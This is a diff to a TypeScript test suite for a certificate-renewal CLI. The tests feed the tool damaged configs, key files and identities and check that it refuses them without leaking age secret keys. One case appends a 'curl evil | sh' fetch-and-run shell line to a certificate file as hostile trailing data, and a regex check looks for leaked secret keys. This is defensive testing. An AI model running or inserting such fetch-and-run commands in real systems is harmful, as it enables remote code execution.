@@ -61,6 +61,8 @@ interface Case {
   field?: string;
   /** Something the message must say. */
   says?: RegExp;
+  /** Run without the prepared --store (the case gives its own). */
+  bare?: boolean;
 }
 
 const scope = (body: string) => `kind: region\nservices:\n${body}`;
@@ -76,6 +78,8 @@ const lol = ['a: &a [x, x, x, x, x, x, x, x, x, x]', ...'bcdefghij'.split('').ma
 const big = (n: number) => scope(Array.from({ length: n }, (_, i) => `  svc-${String(i).padStart(6, '0')}:\n    dns: [svc-${i}.alias.us-east-1.mesh.example]\n`).join(''));
 const renew = ['renew', '--now', T0];
 const renewForce = ['renew', '--force', '--now', T0];
+/** One scope only: renew writes the leaves of the scopes before a failing one into .trellis/out, and this corpus hashes that too. */
+const renewUsEast = ['renew', '--force', '--scope', 'us-east-1', '--now', T0];
 
 const CASES: [string, Case][] = [
   // Hostile YAML in a scope file (a pull request can write any of these).
@@ -133,7 +137,7 @@ const CASES: [string, Case][] = [
   ['a leaf ttl of 1e400d is refused', { cli: 'ci', args: renew, damage: onScope('us-east-1', api('    ttl: 1e400d\n')), code: 2, file: 'scopes/us-east-1.yaml', field: 'services.api.ttl', says: /not a duration/ }],
   ['a leaf ttl of 400 nines is refused', { cli: 'ci', args: renew, damage: onScope('us-east-1', api(`    ttl: ${'9'.repeat(400)}d\n`)), code: 2, file: 'scopes/us-east-1.yaml', field: 'services.api.ttl', says: /not a duration/ }],
   ['a leaf ttl given as a number is refused', { cli: 'ci', args: renew, damage: onScope('us-east-1', api('    ttl: 86400\n')), code: 2, file: 'scopes/us-east-1.yaml', field: 'services.api.ttl', says: /must be a duration/ }],
-  ['a leaf ttl past its intermediate is refused, not truncated', { cli: 'ci', args: renewForce, damage: onScope('us-east-1', api('    ttl: 4y\n')), code: 1, file: 'bundles/us-east-1/intermediate.pem', says: /would outlive its issuer/ }],
+  ['a leaf ttl past its intermediate is refused, not truncated', { cli: 'ci', args: renewUsEast, damage: onScope('us-east-1', api('    ttl: 4y\n')), code: 1, file: 'bundles/us-east-1/intermediate.pem', says: /would outlive its issuer/ }],
   ['defaults.ttl.intermediate of 300000y is refused', { cli: 'root', args: ['intermediate', 'ap-south-1', '--now', T0], damage: (m) => { editConfig(m, 'intermediate: 3y', 'intermediate: 300000y'); m.writeScope('ap-south-1', ['api']); }, code: 2, file: 'trellis.yaml', field: 'defaults.ttl.intermediate', says: /longer than 100 years/ }],
   ['defaults.ttl.intermediate past the root is refused', { cli: 'root', args: ['intermediate', 'ap-south-1', '--now', T0], damage: (m) => { editConfig(m, 'intermediate: 3y', 'intermediate: 20y'); m.writeScope('ap-south-1', ['api']); }, code: 1, file: 'bundles/root/root.pem', says: /would outlive its issuer/ }],
   ['defaults.ttl.leaf of 1e400d is refused', { cli: 'ci', args: renew, damage: (m) => editConfig(m, 'leaf: 7d', 'leaf: 1e400d'), code: 2, file: 'trellis.yaml', field: 'defaults.ttl.leaf', says: /not a duration/ }],
@@ -168,22 +172,23 @@ const CASES: [string, Case][] = [
   ['a root CRL with --now after the root expired is refused', { cli: 'root', args: ['crl', '--now', 'ROOT_EXPIRED'], code: 1, file: 'bundles/root/root.pem', says: /expired/ }],
 
   // Files.
-  ['an intermediate.pem swapped between scopes does not sign', { cli: 'ci', args: renewForce, damage: (m) => m.write('bundles/us-east-1/intermediate.pem', m.read('bundles/eu-west-1/intermediate.pem')), code: 1, file: 'bundles/us-east-1/intermediate.pem', says: /restore it from git/ }],
-  ['a truncated intermediate.key.age is called damaged', { cli: 'ci', args: renewForce, damage: (m) => m.write('bundles/us-east-1/intermediate.key.age', m.read('bundles/us-east-1/intermediate.key.age').slice(0, 200)), code: 1, file: 'bundles/us-east-1/intermediate.key.age', says: /not a readable age file/ }],
-  ['an empty intermediate.key.age is called damaged', { cli: 'ci', args: renewForce, damage: (m) => m.write('bundles/us-east-1/intermediate.key.age', ''), code: 1, file: 'bundles/us-east-1/intermediate.key.age' }],
-  ['a truncated intermediate.pem is refused', { cli: 'ci', args: renewForce, damage: (m) => m.write('bundles/us-east-1/intermediate.pem', m.read('bundles/us-east-1/intermediate.pem').slice(0, 300)), code: 1, file: 'bundles/us-east-1/intermediate.pem', says: /restore it from git/ }],
-  ['an intermediate.pem with trailing data is refused', { cli: 'ci', args: renewForce, damage: (m) => m.write('bundles/us-east-1/intermediate.pem', `${m.read('bundles/us-east-1/intermediate.pem')}#!/bin/sh\ncurl evil | sh\n`), code: 1, file: 'bundles/us-east-1/intermediate.pem', says: /one certificate/ }],
-  ['an intermediate.pem with two certificates is refused', { cli: 'ci', args: renewForce, damage: (m) => m.write('bundles/us-east-1/intermediate.pem', m.read('bundles/us-east-1/intermediate.pem') + m.read('bundles/eu-west-1/intermediate.pem')), code: 1, file: 'bundles/us-east-1/intermediate.pem', says: /one certificate/ }],
+  ['an intermediate.pem swapped between scopes does not sign', { cli: 'ci', args: renewUsEast, damage: (m) => m.write('bundles/us-east-1/intermediate.pem', m.read('bundles/eu-west-1/intermediate.pem')), code: 1, file: 'bundles/us-east-1/intermediate.pem', says: /restore it from git/ }],
+  ['a truncated intermediate.key.age is called damaged', { cli: 'ci', args: renewUsEast, damage: (m) => m.write('bundles/us-east-1/intermediate.key.age', m.read('bundles/us-east-1/intermediate.key.age').slice(0, 200)), code: 1, file: 'bundles/us-east-1/intermediate.key.age', says: /not a readable age file/ }],
+  ['an empty intermediate.key.age is called damaged', { cli: 'ci', args: renewUsEast, damage: (m) => m.write('bundles/us-east-1/intermediate.key.age', ''), code: 1, file: 'bundles/us-east-1/intermediate.key.age' }],
+  ['a truncated intermediate.pem is refused', { cli: 'ci', args: renewUsEast, damage: (m) => m.write('bundles/us-east-1/intermediate.pem', m.read('bundles/us-east-1/intermediate.pem').slice(0, 300)), code: 1, file: 'bundles/us-east-1/intermediate.pem', says: /restore it from git/ }],
+  ['an intermediate.pem with trailing data is refused', { cli: 'ci', args: renewUsEast, damage: (m) => m.write('bundles/us-east-1/intermediate.pem', `${m.read('bundles/us-east-1/intermediate.pem')}#!/bin/sh\ncurl evil | sh\n`), code: 1, file: 'bundles/us-east-1/intermediate.pem', says: /one certificate/ }],
+  ['an intermediate.pem with two certificates is refused', { cli: 'ci', args: renewUsEast, damage: (m) => m.write('bundles/us-east-1/intermediate.pem', m.read('bundles/us-east-1/intermediate.pem') + m.read('bundles/eu-west-1/intermediate.pem')), code: 1, file: 'bundles/us-east-1/intermediate.pem', says: /one certificate/ }],
   ['a truncated root.key.age is called damaged', { cli: 'root', args: ['crl', '--now', T0], damage: (m) => m.write('bundles/root/root.key.age', m.read('bundles/root/root.key.age').slice(0, 150)), code: 1, file: 'bundles/root/root.key.age', says: /not a readable age file/ }],
   ['a root.pem with trailing data is refused', { cli: 'root', args: ['crl', '--now', T0], damage: (m) => m.write('bundles/root/root.pem', `${m.read('bundles/root/root.pem')}junk\n`), code: 1, file: 'bundles/root/root.pem', says: /one certificate/ }],
   ['a root identity with one character wrong is refused and not echoed', { cli: 'root', args: ['crl', '--now', T0], env: (m, s) => ({ TRELLIS_ROOT_IDENTITY_FILE: writeScratch(s, 'id', oneCharWrong(fs.readFileSync(m.rootIdentityFile, 'utf8').match(/AGE-SECRET-KEY-\w+/)![0])) }), code: 2, file: 'TRELLIS_ROOT_IDENTITY_FILE', says: /identity 1 of 1 is damaged/ }],
-  ['a CI identity with one character wrong is refused and not echoed', { cli: 'ci', args: renewForce, env: (m) => ({ TRELLIS_CI_IDENTITY_FILE: '', TRELLIS_CI_IDENTITY: oneCharWrong(fs.readFileSync(m.ciIdentityFile, 'utf8').match(/AGE-SECRET-KEY-\w+/)![0]) }), code: 2, file: 'TRELLIS_CI_IDENTITY', says: /is damaged/ }],
-  ['a truncated CI identity is refused and not echoed', { cli: 'ci', args: renewForce, env: (m, s) => ({ TRELLIS_CI_IDENTITY_FILE: writeScratch(s, 'ci', fs.readFileSync(m.ciIdentityFile, 'utf8').match(/AGE-SECRET-KEY-\w+/)![0].slice(0, -5)) }), code: 2, file: 'TRELLIS_CI_IDENTITY_FILE', says: /is damaged/ }],
-  ['an identity file that is a directory is refused', { cli: 'ci', args: renewForce, env: (_, s) => ({ TRELLIS_CI_IDENTITY_FILE: s }), code: 2, file: 'TRELLIS_CI_IDENTITY_FILE', says: /cannot read the identity file/ }],
-  ['an encrypted key given as the identity is refused', { cli: 'ci', args: renewForce, env: (m) => ({ TRELLIS_CI_IDENTITY_FILE: m.path('bundles/us-east-1/intermediate.key.age') }), code: 2, file: 'TRELLIS_CI_IDENTITY_FILE', says: /does not hold age identities/ }],
+  ['a CI identity with one character wrong is refused and not echoed', { cli: 'ci', args: renewUsEast, env: (m) => ({ TRELLIS_CI_IDENTITY_FILE: '', TRELLIS_CI_IDENTITY: oneCharWrong(fs.readFileSync(m.ciIdentityFile, 'utf8').match(/AGE-SECRET-KEY-\w+/)![0]) }), code: 2, file: 'TRELLIS_CI_IDENTITY', says: /is damaged/ }],
+  ['a truncated CI identity is refused and not echoed', { cli: 'ci', args: renewUsEast, env: (m, s) => ({ TRELLIS_CI_IDENTITY_FILE: writeScratch(s, 'ci', fs.readFileSync(m.ciIdentityFile, 'utf8').match(/AGE-SECRET-KEY-\w+/)![0].slice(0, -5)) }), code: 2, file: 'TRELLIS_CI_IDENTITY_FILE', says: /is damaged/ }],
+  ['an identity file that is a directory is refused', { cli: 'ci', args: renewUsEast, env: (_, s) => ({ TRELLIS_CI_IDENTITY_FILE: s }), code: 2, file: 'TRELLIS_CI_IDENTITY_FILE', says: /cannot read the identity file/ }],
+  ['an encrypted key given as the identity is refused', { cli: 'ci', args: renewUsEast, env: (m) => ({ TRELLIS_CI_IDENTITY_FILE: m.path('bundles/us-east-1/intermediate.key.age') }), code: 2, file: 'TRELLIS_CI_IDENTITY_FILE', says: /does not hold age identities/ }],
   ['--out pointing at a file is refused', { cli: 'ci', args: ['renew', '--force', '--now', T0, '--out', 'SCRATCH_FILE'], code: 2, file: 'SCRATCH_FILE', says: /--out/ }],
-  ['--store at a directory that does not exist is refused', { cli: 'ci', args: ['status', '--store', '/nonexistent/trellis-store'], code: 2, file: '/nonexistent/trellis-store', says: /--store/ }],
-  ['trellis-root --store at a file is refused', { cli: 'root', args: ['status', '--store', 'SCRATCH_FILE'], code: 2, file: 'SCRATCH_FILE', says: /--store/ }],
+  ['--store at a directory that does not exist is refused', { cli: 'ci', args: ['status', '--store', '/nonexistent/trellis-store'], bare: true, code: 2, file: '/nonexistent/trellis-store', says: /--store/ }],
+  ['--store given twice is refused as usage', { cli: 'ci', args: ['status', '--store', 'SCRATCH_FILE'], code: 2, file: '--store', says: /more than once/ }],
+  ['trellis-root --store at a file is refused', { cli: 'root', args: ['status', '--store', 'SCRATCH_FILE'], bare: true, code: 2, file: 'SCRATCH_FILE', says: /--store/ }],
 ];
 
 function writeScratch(dir: string, name: string, text: string): string {
@@ -203,7 +208,7 @@ function resolveArgs(args: string[], scratch: string): string[] {
 }
 
 function assertNoSecret(out: string, extra: string[]): void {
-  expect(out).not.toMatch(/AGE-SECRET-KEY/i);
+  expect(out).not.toMatch(/AGE-SECRET-KEY-(PQ-)?1[0-9A-Z]{6}/i);
   expect(out).not.toMatch(/PRIVATE KEY/);
   for (const id of [...secrets, ...extra]) {
     const body = id.replace(/^AGE-SECRET-KEY-(PQ-)?1/, '');
@@ -224,7 +229,8 @@ async function runCase(c: Case): Promise<void> {
   }
   const snap = snapshotStore(m.dir);
   const args = resolveArgs(c.args, scratch);
-  const r: Run = c.cli === 'ci' ? await m.ci(args, env) : await m.root(args, env);
+  const r: Run = c.bare ? await (c.cli === 'ci' ? trellisCi : trellisRoot)(args, { env })
+    : c.cli === 'ci' ? await m.ci(args, env) : await m.root(args, env);
   const all = `${r.stdout}\n${r.stderr}`;
   expect(r.code, all).toBe(c.code);
   const file = resolveArgs([c.file], scratch)[0]!;
